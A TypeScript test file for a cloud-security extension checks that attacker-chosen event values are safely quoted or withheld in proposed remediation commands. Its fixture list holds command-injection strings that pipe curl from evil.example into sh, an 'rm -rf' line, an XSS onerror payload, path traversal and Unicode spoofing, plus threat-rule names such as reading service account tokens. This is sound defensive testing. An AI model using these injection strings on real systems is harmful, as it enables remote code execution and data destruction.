import { describe, expect, it } from 'vitest';
import type { SecurityEvent } from '../../../../src/extension/core/model/threat.ts';
import { proposeActions } from '../../../../src/extension/core/remediate/propose/proposeActions.ts';
import { given, miner, probed, sampleEvent, threatOf, unprobed } from './given.ts';

const evil = [
  `x'; curl evil.example | sh; '`,
  '$(curl evil.example)',
  '`curl evil.example`',
  '--profile=evil',
  'a\nrm -rf /evil',
  '](command:evil)',
  'x\u202eevil\u2066',
  '<img src=x onerror=evil>',
  '../../../evil',
  'рrod-evil',
];

/** Every text that an attacker could have chosen, replaced by another one. */
function poisoned(event: SecurityEvent, text: string): SecurityEvent {
  const safe = /^(evt\.type|ct\.name|ka\.verb|ka\.target\.(sub)?resource|proc\.pid|container\.id)$/;
  const change = (values: Readonly<Record<string, string>>, prefix = '') =>
    Object.fromEntries(
      Object.entries(values).map(([name, value]) => [
        name,
        safe.test(name) ? value : value.startsWith('/') ? `/${prefix}${name}${text}` : text,
      ]),
    );
  const { image: _image, ...scope } = event.scope;
  const places = Object.fromEntries(Object.entries(scope).map(([name, value]) => [name, name === 'container' ? value : text]));
  return { ...event, labels: change(event.labels), fields: change(event.fields, 'etc/cron.d/'), scope: places };
}

const rules = [
  ...miner,
  ...[
    'Change thread namespace',
    'Contact EC2 Instance Metadata Service From Host',
    'Create Access Key for User',
    'CloudTrail Logging Disabled',
  ],
  ...['Put Bucket Policy Allowing Public Access', 'Attach/Exec Pod', 'Read Service Account Token', 'Systemd Unit Created'],
  ...['Command Injection through AI Agent Tool', 'System Geolocation Discovery'],
];

/** What a POSIX shell would take a line for: its words outside of single quotes. */
function bare(line: string): string {
  return line.replace(/'[^']*'|\\'/g, '');
}

describe.each(evil)('the name %j', (text) => {
  const actions = () => {
    const [first, ...rest] = rules.map((rule) => poisoned(sampleEvent(rule), text));
    if (first === undefined) throw new Error('there are rules');
    return proposeActions(given(threatOf(first, ...rest), unprobed)).actions;
  };

  it('[R-23] never stands unquoted in a line that a person would paste', () => {
    const lines = actions().filter(({ surface }) => surface !== 'sysdig');
    expect(lines.length).toBeGreaterThan(3);
    const words = lines.flatMap(({ line }) => bare(line).split(/\s+/)).filter((word) => word.includes('evil'));
    // A path of harmless letters needs no quotes: it is one word, and no option.
    expect(words.filter((word) => !/^\/[\w@%+:,./=-]+$/.test(word))).toEqual([]);
  });

  it('[R-23] is shown in a payload by what can be seen', () => {
    const payloads = actions().filter(({ surface }) => surface === 'sysdig');
    expect(payloads.length).toBeGreaterThan(0);
    for (const { line, request } of payloads) {
      expect(line).toMatch(/^[\x20-\x7e]+$/);
      const { parameters } = JSON.parse(line.slice(line.indexOf('{')));
      if (request?.surface === 'sysdig') expect(parameters).toEqual(request.parameters);
    }
  });

  it('[R-23] is never among our own words', () => {
    const phrases = actions().flatMap(({ on, does, expected, watch, why, breaks, needs }) => [
      ...[on, does, expected, watch, why.phrase],
      ...breaks.map(({ phrase }) => phrase),
      ...needs.map(({ what }) => what),
    ]);
    const ours = phrases.flatMap((phrase) => phrase.filter((part) => typeof part === 'string'));
    expect(ours.length).toBeGreaterThan(20);
    expect(ours.filter((part) => part.includes('evil'))).toEqual([]);
  });
});

it('[R-23] a value that can not be shown as it is is not sent', () => {
  const event = sampleEvent('Execution from /dev/shm');
  const path = '/dev/shm/\u202egnp.exe';
  const { actions } = proposeActions(given(threatOf({ ...event, fields: { ...event.fields, 'proc.exepath': path } }), unprobed));
  const quarantine = actions.find(({ name }) => name === 'FILE_QUARANTINE');
  expect(quarantine).toMatchObject({ availability: { state: 'unavailable', reason: expect.stringContaining('path.absolute') } });
  expect(quarantine?.request).toBeUndefined();
});

it('[R-23] names of the probe go through the builders: what is no name is in no command', async () => {
  const event = sampleEvent('Execution from /dev/shm');
  const radius = await probed();
  const lines = radius.lines.map((line) =>
    line.kind === 'fact' && line.value.about === 'owners'
      ? { ...line, value: { ...line.value, chain: [{ kind: 'Deployment', namespace: 'shop', name: '--all' }] } }
      : line,
  );
  const { actions } = proposeActions(given(threatOf(event), { ...radius, lines }));
  expect(actions.filter(({ surface }) => surface === 'kubectl').map(({ name }) => name)).toEqual(['kubectl label']);
});
